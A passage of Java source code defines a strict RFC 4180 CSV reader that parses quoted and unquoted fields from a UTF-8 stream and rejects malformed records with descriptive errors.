     * by commas, a field holding a comma, quote, CR or LF is quoted with its quotes doubled. Anything else (a bare LF,
     * a quote inside an unquoted field, text after a closing quote, malformed UTF-8) fails.
     */
    static final class Rfc4180 {

        private final Reader in;
        private long line = 1;

        Rfc4180(InputStream in) {
            this.in = new InputStreamReader(in, UTF_8.newDecoder()
                    .onMalformedInput(CodingErrorAction.REPORT).onUnmappableCharacter(CodingErrorAction.REPORT));
        }

        /** The next record, or null at the end. */
        List<String> next() throws IOException {
            int c = in.read();
            if (c == -1) {
                return null;
            }
            List<String> fields = new ArrayList<>();
            StringBuilder field = new StringBuilder();
            while (true) {
                if (c == '"') {
                    while (true) {
                        c = in.read();
                        if (c == -1) {
                            throw malformed("a quoted field is not closed");
                        }
                        if (c == '"') {
                            c = in.read();
                            if (c != '"') {
                                break;
                            }
                        }
                        field.append((char) c);
                    }
                } else {
                    while (c != ',' && c != '\r' && c != -1) {
                        if (c == '"' || c == '\n') {
                            throw malformed("a quote or line feed in an unquoted field");
                        }
                        field.append((char) c);
                        c = in.read();
                    }
                }
                fields.add(field.toString());
                field.setLength(0);
                if (c == ',') {
                    c = in.read();
                } else if (c == '\r') {
                    if (in.read() != '\n') {
                        throw malformed("CR not followed by LF");
                    }
                    line++;
                    return fields;
                } else if (c == -1) {
                    throw malformed("the last record does not end with CRLF");
                } else {
                    throw malformed("text after a closing quote");
                }
            }
        }

        private IOException malformed(String what) {
            return new IOException("Not RFC 4180 at record " + line + ": " + what);
        }
    }
}
